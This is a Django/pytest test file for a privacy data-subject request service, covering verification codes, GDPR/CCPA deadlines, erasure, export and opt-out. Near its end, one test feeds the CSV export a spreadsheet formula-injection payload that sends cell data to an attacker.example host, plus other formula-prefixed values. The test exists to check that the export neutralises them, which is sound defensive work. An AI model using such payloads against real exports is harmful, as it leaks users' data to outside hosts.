"""Data-subject requests: the public page with its emailed code, deadlines, officers' decisions,
execution by Celery (erasure, access export, opt-out), idempotency and resumption."""

from __future__ import annotations

import asyncio
import io
import json
import re
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.core import mail
from django.db import DatabaseError, connection
from django.test import TestCase
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

# Registers the subject-request admin (``privacy.admin`` imports it too: a no-op here).
import privacy.admin.subject_requests  # noqa: F401
from llmplatform import datamap
from llmplatform.actors import Actor
from llmplatform.models import AuditEvent
from privacy import crypto, services
from privacy.models import ConsentRecord, Conversation, DataSubject, ErasureReceipt, SubjectKey
from privacy.models import SubjectRequest as SR
from privacy.request_tasks import execute_subject_request, resume_stalled_subject_requests
from privacy.subject_requests import deadlines, execution, export
from privacy.subject_requests import selectors as request_selectors
from privacy.subject_requests import services as request_services

EMAIL = "Jane.Subject@example.org"
USER = "user-42"
State = SR.State


@pytest.fixture(autouse=True)
def _fresh_rate_limits():
    """The per-IP counters live in the default cache, shared by every test of the process."""
    from django.core.cache import cache

    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def subject(principals) -> DataSubject:
    """A subject of tenant A with a registered email, consent and two stored conversations."""
    tenant = principals.tenant_a
    subject = services.subject_register_email(
        actor=Actor.system("app"), tenant=tenant, external_id=USER, email=EMAIL
    )
    services.consent_set(
        actor=Actor.system("app"),
        subject=subject,
        purpose="store_conversations",
        granted=True,
        source="api",
    )
    for n in range(2):
        services.conversation_store(
            tenant=tenant,
            external_id=USER,
            alias="chat",
            request_id=f"r{n}",
            prompt=f"question {n}",
            response=f"answer {n}",
        )
    assert Conversation.objects.filter(subject=subject).count() == 2
    subject.refresh_from_db()
    return subject


@pytest.fixture
def cached_entry(principals):
    """A response-cache entry produced by the subject's request (the gateway's data holder)."""
    from gateway import cache
    from gateway.providers.base import Usage

    key = cache.CacheKey(
        tenant_id=principals.tenant_a.pk, alias="chat", digest="d" * 64, subject=USER
    )
    answer = cache.CachedAnswer("cached answer", "stop", Usage(1, 1), "dep", "v1", True)
    store = cache.response_cache()
    namespace = asyncio.run(store.lookup(key))[0]
    asyncio.run(store.store(key, namespace, answer, 600))
    assert asyncio.run(store.lookup(key))[1] is not None
    return key


def _code(message) -> str:
    return re.search(r"\b(\d{6})\b", message.body).group(1)


def _public_request(principals, *, kind=SR.Kind.ERASURE, law=SR.Law.GDPR, email=EMAIL) -> SR:
    # Emails go out when the transaction commits.
    with TestCase.captureOnCommitCallbacks(execute=True):
        request = request_services.subject_request_create(
            tenant=principals.tenant_a,
            kind=kind,
            law=law,
            source=SR.Source.PUBLIC_PAGE,
            email=email,
            actor=Actor.anonymous("public_page"),
        )
    request.refresh_from_db()  # the worker's task stored the code's hash
    return request


def _verified(principals, subject, **kwargs) -> SR:
    mail.outbox.clear()
    request = _public_request(principals, **kwargs)
    assert (
        request_services.subject_request_verify(request=request, code=_code(mail.outbox[-1]))
        is request_services.VerifyResult.VERIFIED
    )
    return request


def _approve(request: SR, actor, django_capture_on_commit_callbacks) -> SR:
    with django_capture_on_commit_callbacks(execute=True):  # enqueues (and runs) the task
        request_services.subject_request_approve(actor=Actor.for_user(actor), request=request)
    request.refresh_from_db()
    return request


# --- Identity ------------------------------------------------------------------------------


def test_a_public_request_waits_for_the_code_emailed_to_the_registered_address(principals, subject):
    request = _public_request(principals)
    assert request.state == State.RECEIVED and request.subject == subject
    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == [EMAIL]
    assert re.search(r"\b\d{6}\b", message.body)
    assert USER not in message.body  # nothing but the code and what it is for
    assert _code(message) not in request.code_hash


def test_the_right_code_verifies_and_the_subject_gets_an_acknowledgement(principals, subject):
    with time_machine.travel(datetime(2027, 1, 1, 9, tzinfo=UTC), tick=False):
        request = _public_request(principals, law=SR.Law.CCPA)
        with TestCase.captureOnCommitCallbacks(execute=True):
            result = request_services.subject_request_verify(
                request=request, code=f" {_code(mail.outbox[-1])} "
            )
    assert result is request_services.VerifyResult.VERIFIED
    assert request.state == State.VERIFIED and request.code_hash == ""
    assert mail.outbox[-1].to == [EMAIL] and "answer by 2027-02-15" in mail.outbox[-1].body


def test_an_unverified_request_cannot_be_approved_or_executed(principals, subject):
    request = _public_request(principals)
    with pytest.raises(request_services.SubjectRequestError):
        request_services.subject_request_approve(
            actor=Actor.for_user(principals.alice), request=request
        )
    outcome = execution.subject_request_execute(request.pk)
    assert outcome.ran is False
    # Even a row forced to "approved" by hand is refused without a verification.
    SR.objects.filter(pk=request.pk).update(state=State.APPROVED)
    assert execution.subject_request_execute(request.pk).state == State.FAILED
    request.refresh_from_db()
    assert request.last_error == "start: SubjectRequestError"
    assert Conversation.objects.filter(subject=subject).count() == 2
    assert not SubjectKey.objects.get(subject=subject).destroyed_at


def test_wrong_codes_are_limited_and_then_the_request_is_closed(principals, subject):
    request = _public_request(principals)
    right = _code(mail.outbox[-1])
    wrong = f"{(int(right) + 1) % 10**6:06d}"
    results = [
        request_services.subject_request_verify(request=request, code=wrong)
        for _ in range(request_services.MAX_CODE_ATTEMPTS)
    ]
    assert results[:-1] == [request_services.VerifyResult.WRONG] * (
        request_services.MAX_CODE_ATTEMPTS - 1
    )
    assert results[-1] is request_services.VerifyResult.LOCKED
    assert (
        request_services.subject_request_verify(request=request, code=right)
        is request_services.VerifyResult.NOT_PENDING
    )
    request.refresh_from_db()
    assert request.state == State.REJECTED and request.verified_at is None
    assert (
        AuditEvent.objects.filter(
            action="subject_request.verify_failed", object_id=str(request.pk)
        ).count()
        == 5
    )


def test_an_expired_code_is_refused(principals, subject):
    with time_machine.travel(datetime(2027, 3, 1, 12, tzinfo=UTC), tick=False) as clock:
        request = _public_request(principals)
        code = _code(mail.outbox[-1])
        clock.shift(request_services.CODE_LIFETIME + timedelta(seconds=1))
        assert (
            request_services.subject_request_verify(request=request, code=code)
            is request_services.VerifyResult.WRONG
        )


def test_a_request_for_an_unknown_email_sends_nothing_and_never_verifies(principals, subject):
    request = _public_request(principals, email="nobody@example.org")
    assert request.subject is None and request.code_hash
    assert mail.outbox == []
    # Whatever code is tried (even a lucky guess of the unsent one) it stays unverified.
    for code in ("000000", "123456"):
        assert (
            request_services.subject_request_verify(request=request, code=code)
            is request_services.VerifyResult.WRONG
        )


def test_the_page_does_the_same_work_for_registered_and_unknown_emails_and_mails_off_it(
    client, principals, subject, monkeypatch
):
    """No timing oracle: the POST neither decrypts nor mails; both branches queue one task."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from privacy import request_tasks

    queued: list[int] = []
    monkeypatch.setattr(request_tasks.send_request_code, "delay", queued.append)

    def submit(email: str) -> tuple[int, list[str]]:
        with (
            CaptureQueriesContext(connection) as queries,
            TestCase.captureOnCommitCallbacks(execute=True),
        ):
            response = client.post(
                reverse("privacy:request"),
                {"tenant": "tenant-a", "kind": "erasure", "law": "gdpr", "email": email},
            )
        assert response.status_code == 302
        return len(queued), [q["sql"].split(" ")[0] for q in queries.captured_queries]

    known_tasks, known_queries = submit(EMAIL)
    unknown_tasks, unknown_queries = submit("nobody@example.org")
    assert (known_tasks, unknown_tasks) == (1, 2)  # one task each
    assert known_queries == unknown_queries  # the same statements, in the same order
    assert mail.outbox == []  # nothing was sent inside either request

    # The worker sends the code to the registered address only.
    assert request_tasks.send_request_code(queued[0]) is True
    assert request_tasks.send_request_code(queued[1]) is False
    assert [m.to for m in mail.outbox] == [[EMAIL]]


def test_the_page_answers_the_same_for_registered_and_unknown_emails(client, principals, subject):
    def submit(email: str) -> str:
        with TestCase.captureOnCommitCallbacks(execute=True):
            response = client.post(
                reverse("privacy:request"),
                {"tenant": "tenant-a", "kind": "erasure", "law": "gdpr", "email": email},
                follow=True,
            )
        assert response.status_code == 200
        path = response.redirect_chain[-1][0]
        return response.content.decode().replace(path, "")

    known = submit(EMAIL)
    assert len(mail.outbox) == 1
    unknown = submit("nobody@example.org")
    assert len(mail.outbox) == 1  # nothing sent to an unknown address
    strip = re.compile(r'name="csrfmiddlewaretoken" value="[^"]+"')
    assert strip.sub("", known) == strip.sub("", unknown)
    assert "If this email is registered with the organisation you chose, we sent a code" in known


def test_the_public_id_is_signed_and_a_forged_one_is_not_found(client, principals, subject):
    request = _public_request(principals)
    public_id = request_selectors.public_id(request)
    assert str(request.pk) != public_id
    assert client.get(reverse("privacy:request-status", args=[public_id])).status_code == 200
    forged = f"{public_id.split(':')[0]}:forged"
    assert client.get(reverse("privacy:request-status", args=[forged])).status_code == 404
    assert client.get(reverse("privacy:request-verify", args=[forged])).status_code == 404


def test_the_public_page_is_rate_limited_per_client_ip(client, principals, settings):
    settings.LLMP_PRIVACY_REQUEST_RATE = "3/m"
    data = {"tenant": "tenant-a", "kind": "access", "law": "ccpa", "email": "a@example.org"}
    codes = [client.post(reverse("privacy:request"), data).status_code for _ in range(4)]
    assert codes == [302, 302, 302, 429]
    other_ip = client.post(reverse("privacy:request"), data, REMOTE_ADDR="10.9.9.9")
    assert other_ip.status_code == 302


def test_the_public_form_needs_a_csrf_token(principals):
    from django.test import Client

    strict = Client(enforce_csrf_checks=True)
    response = strict.post(
        reverse("privacy:request"),
        {"tenant": "tenant-a", "kind": "erasure", "law": "gdpr", "email": EMAIL},
    )
    assert response.status_code == 403
    assert not SR.objects.exists()


def test_a_request_from_the_tenants_app_counts_as_verified(principals, subject):
    request = request_services.subject_request_create(
        tenant=principals.tenant_a,
        kind=SR.Kind.ACCESS,
        law=SR.Law.GDPR,
        source=SR.Source.API,
        external_id=USER,
        actor=Actor.system("api-key:a"),
    )
    assert request.state == State.VERIFIED and request.verified_at
    assert request.subject == subject
    assert mail.outbox == []


# --- Deadlines and officers' decisions ------------------------------------------------------


def test_gdpr_requests_are_due_one_calendar_month_after_receipt(principals, subject):
    with time_machine.travel(datetime(2027, 1, 31, 9, tzinfo=UTC), tick=False):
        request = _public_request(principals)
    assert request.due_at == datetime(2027, 2, 28, 9, tzinfo=UTC)  # the month's last day
    assert request.acknowledge_by is None
    with time_machine.travel(datetime(2027, 5, 10, 9, tzinfo=UTC), tick=False):
        assert _public_request(principals).due_at == datetime(2027, 6, 10, 9, tzinfo=UTC)


def test_ccpa_requests_are_due_in_45_days_and_acknowledged_in_10_business_days(principals, subject):
    # Friday 1 January 2027: ten weekdays later is Friday 15 January.
    with time_machine.travel(datetime(2027, 1, 1, 9, tzinfo=UTC), tick=False):
        request = _public_request(principals, law=SR.Law.CCPA)
    assert request.due_at == datetime(2027, 2, 15, 9, tzinfo=UTC)
    assert request.acknowledge_by == datetime(2027, 1, 15, 9, tzinfo=UTC)


def test_a_gdpr_deadline_is_extended_once_by_at_most_two_months_with_a_reason(principals, subject):
    with time_machine.travel(datetime(2027, 1, 10, 9, tzinfo=UTC), tick=False) as clock:
        request = _verified(principals, subject)
        for bad in ({"reason": ""}, {"reason": "complex", "months": 3}):
            with pytest.raises(request_services.SubjectRequestError):
                request_services.subject_request_extend(
                    actor=Actor.for_user(principals.alice), request=request, **bad
                )
        clock.shift(timedelta(days=20))
        mail.outbox.clear()
        request_services.subject_request_extend(
            actor=Actor.for_user(principals.alice), request=request, reason="many systems to search"
        )
        assert request.extended_due_at == datetime(2027, 4, 10, 9, tzinfo=UTC)
        assert request.extension_reason == "many systems to search"
        with pytest.raises(request_services.SubjectRequestError, match="only once"):
            request_services.subject_request_extend(
                actor=Actor.for_user(principals.alice), request=request, reason="again"
            )
    assert deadlines.effective_due(request) == request.extended_due_at
    event = AuditEvent.objects.get(action="subject_request.extend")
    assert event.after["reason"] == "many systems to search"


def test_ccpa_requests_and_late_extensions_are_refused(principals, subject):
    ccpa = _verified(principals, subject, law=SR.Law.CCPA)
    with pytest.raises(request_services.SubjectRequestError, match="only GDPR"):
        request_services.subject_request_extend(
            actor=Actor.for_user(principals.alice), request=ccpa, reason="x"
        )
    gdpr = _verified(principals, subject)
    with (
        time_machine.travel(gdpr.due_at + timedelta(minutes=1), tick=False),
        pytest.raises(request_services.SubjectRequestError, match="before the deadline"),
    ):
        request_services.subject_request_extend(
            actor=Actor.for_user(principals.alice), request=gdpr, reason="x"
        )


def test_a_rejection_needs_a_reason_and_tells_the_subject(
    principals, subject, django_capture_on_commit_callbacks
):
    request = _verified(principals, subject)
    with pytest.raises(request_services.SubjectRequestError):
        request_services.subject_request_reject(
            actor=Actor.for_user(principals.alice), request=request, reason=" "
        )
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        request_services.subject_request_reject(
            actor=Actor.for_user(principals.alice),
            request=request,
            reason="legal hold on these records",
        )
    assert request.state == State.REJECTED and request.decided_by == "user:alice"
    assert mail.outbox[0].to == [EMAIL]
    assert "legal hold on these records" in mail.outbox[0].body
    with pytest.raises(request_services.SubjectRequestError):
        request_services.subject_request_approve(
            actor=Actor.for_user(principals.alice), request=request
        )


# --- Execution ------------------------------------------------------------------------------


def test_erasure_removes_records_key_and_cache_entries_and_leaves_a_receipt(
    principals, subject, cached_entry, django_capture_on_commit_callbacks
):
    from gateway import cache

    request = _verified(principals, subject)
    conversation = Conversation.objects.filter(subject=subject).first()
    mail.outbox.clear()
    request = _approve(request, principals.alice, django_capture_on_commit_callbacks)
    assert request.state == State.COMPLETED and request.attempts == 1

    assert not Conversation.objects.filter(subject=subject).exists()
    assert SubjectKey.objects.get(subject=subject).destroyed_at is not None
    with pytest.raises(crypto.KeyDestroyed):
        crypto.decrypt(
            subject, conversation.prompt_ciphertext, aad=crypto.record_aad(subject, "prompt")
        )
    assert asyncio.run(cache.response_cache().lookup(cached_entry))[1] is None
    assert datamap.find_all(principals.tenant_a.pk, USER)["privacy.conversations"] == []

    receipt = ErasureReceipt.objects.get(request=request)
    assert receipt.counts == {
        "gateway.response_cache": 1,
        "gateway.security_events": 0,
        "gateway.semantic_cache": 0,
        "privacy.conversations": 2,
        "privacy.subject": 1,
    }
    assert receipt.subject_ref == execution.subject_ref(principals.tenant_a.pk, USER)
    stored = json.dumps([receipt.counts, receipt.subject_ref, str(receipt)])
    assert USER not in stored and EMAIL.lower() not in stored.lower()
    assert receipt.started_at <= receipt.finished_at

    assert mail.outbox[-1].to == [EMAIL] and "erasure request is complete" in mail.outbox[-1].body
    actions = list(
        AuditEvent.objects.filter(object_type="privacy.SubjectRequest", object_id=str(request.pk))
        .order_by("id")
        .values_list("action", flat=True)
    )
    assert actions == [
        "subject_request.create",
        "subject_request.code_issued",
        "subject_request.verify",
        "subject_request.approve",
        "subject_request.start",
        "subject_request.complete",
    ]
    audit_text = json.dumps(list(AuditEvent.objects.values("object_repr", "before", "after")))
    assert EMAIL.lower() not in audit_text.lower()


def test_executing_twice_does_not_run_twice(
    principals, subject, django_capture_on_commit_callbacks
):
    request = _approve(
        _verified(principals, subject), principals.alice, django_capture_on_commit_callbacks
    )
    counts = ErasureReceipt.objects.get(request=request).counts
    assert execute_subject_request.delay(request.pk).get() == State.COMPLETED
    assert execution.subject_request_execute(request.pk).ran is False
    request.refresh_from_db()
    assert request.attempts == 1
    assert ErasureReceipt.objects.filter(request=request).count() == 1
    assert ErasureReceipt.objects.get(request=request).counts == counts
    assert (
        AuditEvent.objects.filter(action="subject_request.start", object_id=str(request.pk)).count()
        == 1
    )


def test_a_request_stuck_in_progress_is_resumed(principals, subject, settings):
    request = _verified(principals, subject)
    SR.objects.filter(pk=request.pk).update(state=State.APPROVED)
    now = datetime.now(UTC)
    # A worker claimed it and died before doing anything.
    SR.objects.filter(pk=request.pk).update(state=State.IN_PROGRESS, started_at=now, attempts=1)
    assert execution.subject_request_execute(request.pk).ran is False  # not stalled yet
    assert resume_stalled_subject_requests()["resumed"] == 0
    with time_machine.travel(now + timedelta(minutes=settings.LLMP_PRIVACY_STALL_MINUTES + 1)):
        assert resume_stalled_subject_requests()["resumed"] == 1
    request.refresh_from_db()
    assert request.state == State.COMPLETED and request.attempts == 2
    assert ErasureReceipt.objects.get(request=request).counts["privacy.conversations"] == 2


@pytest.mark.django_db(transaction=True)
def test_a_claim_whose_audit_row_cannot_be_written_is_not_taken(principals, subject, monkeypatch):
    request = request_services.subject_request_create(
        tenant=principals.tenant_a,
        kind=SR.Kind.ERASURE,
        law=SR.Law.GDPR,
        source=SR.Source.API,
        external_id=USER,
        actor=Actor.system("api-key:a"),
    )
    SR.objects.filter(pk=request.pk).update(state=State.APPROVED)  # as an approval leaves it

    def audit_log_unavailable(**fields):
        raise DatabaseError("the audit log is unavailable")

    monkeypatch.setattr(execution, "audit_record", audit_log_unavailable)
    with pytest.raises(DatabaseError):
        execution.subject_request_execute(request.pk)
    request.refresh_from_db()
    # Not claimed: no other run is kept out, no attempt is spent, nothing was erased.
    assert (request.state, request.attempts, request.started_at) == (State.APPROVED, 0, None)
    assert Conversation.objects.filter(subject=subject).count() == 2

    monkeypatch.undo()
    assert execution.subject_request_execute(request.pk).state == State.COMPLETED
    request.refresh_from_db()
    assert request.attempts == 1
    assert AuditEvent.objects.filter(
        action="subject_request.start", object_id=str(request.pk)
    ).exists()


def test_a_failed_erasure_keeps_no_personal_data_in_the_error_and_is_retried(
    principals, subject, django_capture_on_commit_callbacks, monkeypatch
):
    holder = next(h for h in datamap.holders() if h.name == "privacy.subject")

    def broken(tenant_id, external_id):
        raise RuntimeError(f"cannot erase {external_id} <{EMAIL}>")

    monkeypatch.setitem(
        datamap._holders,
        holder.name,
        datamap.DataHolder(holder.name, holder.description, holder.find, broken),
    )
    request = _approve(
        _verified(principals, subject), principals.alice, django_capture_on_commit_callbacks
    )
    assert request.state == State.FAILED
    assert request.last_error == "erasure: RuntimeError"
    # All or nothing: the conversations deleted before the failure are back.
    assert Conversation.objects.filter(subject=subject).count() == 2
    assert not ErasureReceipt.objects.exists()

    monkeypatch.setitem(datamap._holders, holder.name, holder)
    assert resume_stalled_subject_requests()["resumed"] == 1
    request.refresh_from_db()
    assert request.state == State.COMPLETED and request.attempts == 2
    assert not Conversation.objects.filter(subject=subject).exists()


def test_an_access_request_yields_an_export_downloadable_once(
    client, principals, subject, django_capture_on_commit_callbacks
):
    request = _verified(principals, subject, kind=SR.Kind.ACCESS)
    mail.outbox.clear()
    request = _approve(request, principals.alice, django_capture_on_commit_callbacks)
    assert request.state == State.COMPLETED and request.export_ciphertext
    assert b"question 0" not in bytes(request.export_ciphertext)  # encrypted
    link = re.search(r"https?://\S+/privacy/export/\S+/", mail.outbox[-1].body).group(0)
    path = link[link.index("/privacy/") :]

    assert client.get(path).status_code == 200  # a look does not use the link up
    response = client.post(path, {"format": "zip"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    document = json.loads(archive.read("export.json"))
    assert document["format"] == export.EXPORT_FORMAT and document["user"] == USER
    prompts = [c["prompt"] for c in document["data"]["privacy.conversations"]]
    assert prompts == ["question 0", "question 1"]
    assert document["data"]["privacy.subject"]["email"] == EMAIL
    assert (
        document["data"]["privacy.subject"]["consent_history"][0]["purpose"]
        == "store_conversations"
    )
    assert "question 1" in archive.read("export.csv").decode()

    again = client.post(path, {"format": "json"})
    assert again.status_code == 410 and b"already downloaded" in again.content
    assert client.get(path).status_code == 410
    request.refresh_from_db()
    assert request.export_downloaded_at and request.export_ciphertext is None


def test_an_export_in_csv_and_expired_or_forged_links_are_refused(
    client, principals, subject, django_capture_on_commit_callbacks, settings
):
    start = datetime.now(UTC)
    request = _approve(
        _verified(principals, subject, kind=SR.Kind.ACCESS),
        principals.alice,
        django_capture_on_commit_callbacks,
    )
    path = reverse("privacy:export-download", args=[export.export_token(request)])
    assert client.post(path[:-1] + "x/", {"format": "csv"}).status_code == 410
    later = start + timedelta(days=settings.LLMP_PRIVACY_EXPORT_LINK_DAYS, hours=1)
    with time_machine.travel(later):
        expired = client.post(path + "?format=csv")
        assert expired.status_code == 410 and b"expired" in expired.content
        assert resume_stalled_subject_requests()["exports_expired"] == 1
    request.refresh_from_db()
    assert request.export_ciphertext is None

    fresh = _approve(
        _verified(principals, subject, kind=SR.Kind.ACCESS),
        principals.alice,
        django_capture_on_commit_callbacks,
    )
    response = client.post(
        reverse("privacy:export-download", args=[export.export_token(fresh)]) + "?format=csv"
    )
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    assert response.content.decode().splitlines()[0] == "section,field,value"


def test_an_opt_out_withdraws_sale_and_sharing(
    principals, subject, django_capture_on_commit_callbacks
):
    request = _approve(
        _verified(principals, subject, kind=SR.Kind.OPT_OUT, law=SR.Law.CCPA),
        principals.alice,
        django_capture_on_commit_callbacks,
    )
    assert request.state == State.COMPLETED
    subject.refresh_from_db()
    assert subject.do_not_sell is True
    latest = ConsentRecord.objects.filter(subject=subject, purpose="sale_sharing").first()
    assert latest.granted is False and latest.source == "public_page"


def test_public_requests_never_verified_are_closed(principals, subject):
    request = _public_request(principals)
    later = (
        datetime.now(UTC)
        + request_services.CODE_LIFETIME
        + request_services.UNVERIFIED_GRACE
        + timedelta(minutes=1)
    )
    with time_machine.travel(later):
        assert resume_stalled_subject_requests()["closed_unverified"] == 1
    request.refresh_from_db()
    assert request.state == State.REJECTED


# --- Admin ----------------------------------------------------------------------------------


def test_officers_filter_overdue_and_due_soon_requests(admin_client, principals, subject):
    with time_machine.travel(datetime.now(UTC) - timedelta(days=40)):
        overdue = _verified(principals, subject)
    soon = _verified(principals, subject, law=SR.Law.CCPA)
    SR.objects.filter(pk=soon.pk).update(due_at=datetime.now(UTC) + timedelta(days=3))
    _verified(principals, subject)  # due in a month
    url = reverse("admin:privacy_subjectrequest_changelist")

    def listed(query: str) -> set[int]:
        response = admin_client.get(url + query)
        assert response.status_code == 200
        return {r.pk for r in response.context["cl"].result_list}

    assert listed("?deadline=overdue") == {overdue.pk}
    assert listed("?deadline=due7") == {soon.pk}
    with CaptureQueriesContext(connection) as few:
        admin_client.get(url)
    for _ in range(5):
        _verified(principals, subject)
    with CaptureQueriesContext(connection) as many:
        admin_client.get(url)
    assert len(many) == len(few)  # a fixed number of queries, whatever the row count


def test_officers_approve_only_verified_requests_and_reject_with_a_reason(
    admin_client, principals, subject, django_capture_on_commit_callbacks
):
    unverified = _public_request(principals)
    verified = _verified(principals, subject, kind=SR.Kind.OPT_OUT)
    url = reverse("admin:privacy_subjectrequest_changelist")
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(
            url, {"action": "approve", "_selected_action": [unverified.pk, verified.pk]}
        )
    unverified.refresh_from_db()
    verified.refresh_from_db()
    assert unverified.state == State.RECEIVED
    assert verified.state == State.COMPLETED

    other = _verified(principals, subject)
    form = admin_client.post(url, {"action": "reject", "_selected_action": [other.pk]})
    assert form.status_code == 200 and b"reason" in form.content
    admin_client.post(
        url,
        {
            "action": "reject",
            "_selected_action": [other.pk],
            "apply": "1",
            "reason": "manifestly unfounded",
        },
    )
    other.refresh_from_db()
    assert other.state == State.REJECTED and other.rejection_reason == "manifestly unfounded"

    extend = _verified(principals, subject)
    admin_client.post(
        url,
        {
            "action": "extend",
            "_selected_action": [extend.pk],
            "apply": "1",
            "reason": "complex",
            "months": "2",
        },
    )
    extend.refresh_from_db()
    assert extend.extended_due_at is not None
    detail = admin_client.get(reverse("admin:privacy_subjectrequest_change", args=[extend.pk]))
    assert detail.status_code == 200 and b'name="_save"' not in detail.content


# --- The whole flow in a real browser -------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_an_erasure_from_the_public_page_leaves_nothing_readable(
    live_server, principals, subject, cached_entry, page
):
    conversation = Conversation.objects.filter(subject=subject).first()
    page.goto(f"{live_server.url}/privacy/request/")
    page.fill("input[name=tenant]", "tenant-a")
    page.select_option("select[name=kind]", "erasure")
    page.select_option("select[name=law]", "gdpr")
    page.fill("input[name=email]", EMAIL)
    page.click("#privacy-request-form button[type=submit]")
    page.wait_for_selector("#code-sent")
    assert "If this email is registered with" in page.inner_text("#code-sent")

    page.fill("input[name=code]", _code(mail.outbox[-1]))
    page.click("#privacy-verify-form button[type=submit]")
    page.wait_for_selector("[data-testid=request-state]")
    assert page.inner_text("[data-testid=request-state]") == "identity verified"
    status_url = page.url

    request = SR.objects.get(kind=SR.Kind.ERASURE)
    # runs the task
    request_services.subject_request_approve(
        actor=Actor.for_user(principals.alice), request=request
    )
    page.goto(status_url)
    assert page.inner_text("[data-testid=request-state]") == "completed"

    assert not Conversation.objects.filter(subject=subject).exists()
    assert SubjectKey.objects.get(subject=subject).destroyed_at is not None
    with pytest.raises(crypto.KeyDestroyed):
        crypto.decrypt(
            subject, conversation.response_ciphertext, aad=crypto.record_aad(subject, "response")
        )
    subject.refresh_from_db()
    assert subject.email_ciphertext is None and USER not in subject.external_id
    receipt = ErasureReceipt.objects.get(request=request)
    assert receipt.counts == {
        "gateway.response_cache": 1,
        "gateway.security_events": 0,
        "gateway.semantic_cache": 0,
        "privacy.conversations": 2,
        "privacy.subject": 1,
    }
    assert USER not in json.dumps(receipt.counts) + receipt.subject_ref
    assert "erasure request is complete" in mail.outbox[-1].body


def test_the_csv_export_never_hands_a_spreadsheet_a_formula():
    import csv
    import io

    document = {
        "conversations": [
            {
                "prompt": '=HYPERLINK("https://attacker.example/?"&A1,"x")',
                "response": "+1 and -1 and @SUM(A1)",
                "note": " =1+1",
                "tokens": -3,
                "plain": "hello = world",
            }
        ],
        "@section": {"-field": "\tcmd"},
    }
    rows = list(csv.reader(io.StringIO(export.export_csv(document))))
    cells = [cell for row in rows[1:] for cell in row]

    for cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t")), cell
    values = {row[1]: row[2] for row in rows[1:]}
    assert values["[0].prompt"] == "'" + document["conversations"][0]["prompt"]
    assert values["[0].plain"] == "hello = world"  # text that is no formula is kept as it is
    assert values["[0].tokens"] == "-3"  # a number stays a number
    assert ["'@section", "'-field", "'\tcmd"] in rows


def test_the_page_does_not_tell_whether_an_organisation_exists(client, principals, subject):
    def submit(tenant: str) -> tuple[str, str]:
        with TestCase.captureOnCommitCallbacks(execute=True):
            response = client.post(
                reverse("privacy:request"),
                {"tenant": tenant, "kind": "erasure", "law": "gdpr", "email": "nobody@example.org"},
                follow=True,
            )
        assert response.status_code == 200
        path = response.redirect_chain[-1][0]
        wrong = client.post(path, {"code": "123456"})
        strip = re.compile(r'name="csrfmiddlewaretoken" value="[^"]+"')
        return (
            strip.sub("", response.content.decode().replace(path, "")),
            strip.sub("", wrong.content.decode().replace(path, "")),
        )

    real, invented = submit("tenant-a"), submit("no-such-org")
    assert real == invented
    assert "no such organisation" not in invented[0].lower()
    assert "That code is wrong or has expired." in invented[1]
